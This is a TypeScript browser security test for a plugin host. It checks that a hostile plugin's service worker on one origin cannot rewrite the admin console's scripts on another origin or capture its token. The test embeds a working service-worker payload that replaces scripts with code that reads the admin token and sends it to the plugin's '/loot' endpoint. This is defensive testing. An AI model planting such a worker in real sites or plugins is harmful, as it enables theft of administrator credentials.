// The reason for two planes, proven in Chromium: a plugin's page on the data plane registers a service
// worker with scope `/` that rewrites every script its origin serves (the attack works there, as the first
// step shows). The console on the control plane, another origin, loads its own script, follows the feed
// with the token, and the token never reaches the plugin.
import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import type { Browser } from 'playwright-core';
import { launchChromium, PageWatch } from './browser.js';
import { pluginsDirWithPowertable, writePlugin } from './support/plugin-sources.js';
import { killAllServers, type ServerProcess, startServer } from './support/server-process.js';
import { getJson, tempDir, waitFor } from './support/util.js';

const TOKEN = 'planes-browser-token-1';

/** What the service worker answers for every script of its origin: it reports the page's token to the plugin. */
const REWRITTEN = `document.documentElement.dataset.rewritten = '1';
const token = sessionStorage.getItem('plugin-host.admin-token') || (document.getElementById('token') || {}).value || '';
fetch(ORIGIN + '/loot?what=' + encodeURIComponent('token=' + token + ' page=' + location.href), { mode: 'no-cors' });`;

const SERVICE_WORKER = `self.addEventListener('install', () => self.skipWaiting());
self.addEventListener('activate', (e) => e.waitUntil(self.clients.claim()));
self.addEventListener('fetch', (e) => {
  if (e.request.destination !== 'script') return;
  const body = ${JSON.stringify(REWRITTEN)}.replace('ORIGIN', JSON.stringify(self.location.origin));
  e.respondWith(new Response(body, { headers: { 'content-type': 'text/javascript' } }));
});`;

const PAGE_SCRIPT = `navigator.serviceWorker.register('/sw.js', { scope: '/' })
  .then(() => navigator.serviceWorker.ready)
  .then(() => { document.body.dataset.sw = 'ready'; });`;

/** A plugin serving an ordinary web page, its script, a service worker with scope `/`, and what it collected. */
const HOSTILE_PAGE = `import { definePlugin } from 'plugin-host/sdk';
const loot: string[] = [];
export const newPlugin = definePlugin(() => ({
  getMetadata: () => ({ name: 'pages', version: '1.0.0', description: 'a page with a service worker', author: 'a' }),
  initialize() {},
  registerRoutes(server) {
    server.get('/page', async (_req, reply) =>
      reply.type('text/html; charset=utf-8').send('<!doctype html><title>page</title><body><script src="/page.js"></script></body>'),
    );
    server.get('/page.js', async (_req, reply) => reply.type('text/javascript').send(${JSON.stringify(PAGE_SCRIPT)}));
    server.get('/sw.js', async (_req, reply) =>
      reply.type('text/javascript').header('service-worker-allowed', '/').send(${JSON.stringify(SERVICE_WORKER)}),
    );
    server.get('/loot', async (req) => {
      loot.push(String((req.query as { what?: string }).what ?? ''));
      return { ok: true };
    });
    server.get('/looted', async () => loot);
  },
  cleanup() {},
}));
`;

describe('two origins in a browser: a service worker of a plugin never reaches the console', () => {
  let browser: Browser;
  let s: ServerProcess;
  const temps: Array<{ cleanup(): void }> = [];

  before(async () => {
    const plugins = pluginsDirWithPowertable();
    const data = tempDir('ph-planes-browser-');
    temps.push(plugins, data);
    writePlugin(plugins.dir, 'pages', HOSTILE_PAGE);
    s = await startServer({ name: 'planes-browser', env: { PLUGINS_DIR: plugins.dir, DATA_DIR: data.dir, ADMIN_TOKEN: TOKEN } });
    browser = await launchChromium();
  });
  after(async () => {
    await browser?.close();
    await killAllServers();
    for (const t of temps) t.cleanup();
  });

  test('the service worker rewrites scripts on the data plane; the console on the control plane loads its own and the token stays there', async () => {
    assert.notEqual(new URL(s.url).origin, new URL(s.adminUrl).origin, 'two origins');
    const context = await browser.newContext();
    try {
      // 1. the attack, on the plugin's own origin: the worker installs and rewrites the page's script
      const page = await context.newPage();
      await page.goto(`${s.url}/page`);
      await page.locator('body[data-sw="ready"]').waitFor({ state: 'attached', timeout: 15_000 });
      await page.reload();
      await page.locator('html[data-rewritten="1"]').waitFor({ state: 'attached', timeout: 15_000 });
      const looted = async () => (await getJson(`${s.url}/looted`)).body as string[];
      await waitFor(
        async () => ((await looted()).some((l) => l.includes(`page=${s.url}/page`)) ? true : undefined),
        'the rewritten script reported',
      );
      // on the data plane there is no console to rewrite
      assert.equal((await page.goto(`${s.url}/console`))?.status(), 404);

      // 2. the console, in the same browser, on the control plane
      const console = await context.newPage();
      const watch = new PageWatch(console, s.adminUrl);
      const scripts: { url: string; fromWorker: boolean }[] = [];
      console.on('response', (r) => {
        if (r.request().resourceType() === 'script') scripts.push({ url: r.url(), fromWorker: r.fromServiceWorker() });
      });
      const res = await console.goto(`${s.adminUrl}/console`);
      assert.equal(res?.status(), 200);
      await console.getByLabel('Admin token').fill(TOKEN);
      await console.locator('body[data-loaded="true"][data-connection="live"]').waitFor({ timeout: 15_000 });
      assert.deepEqual(scripts, [{ url: `${s.adminUrl}/console/app.js`, fromWorker: false }], "the console's own script, from the network");
      assert.equal(await console.evaluate('document.documentElement.dataset.rewritten ?? null'), null, 'no rewritten script ran');
      // an action with the token, as an operator would: still nothing leaves the control plane
      await console.getByRole('button', { name: 'Disable powertable' }).click();
      await console.locator('#message', { hasText: 'powertable disabled' }).waitFor({ timeout: 15_000 });
      watch.assertClean();

      const all = await looted();
      assert.ok(!all.some((l) => l.includes(TOKEN)), `the token never reached the plugin: ${JSON.stringify(all)}`);
      assert.ok(!all.some((l) => l.includes(s.adminUrl)), 'no script of the control plane was rewritten');
    } finally {
      await context.close();
    }
  });
});
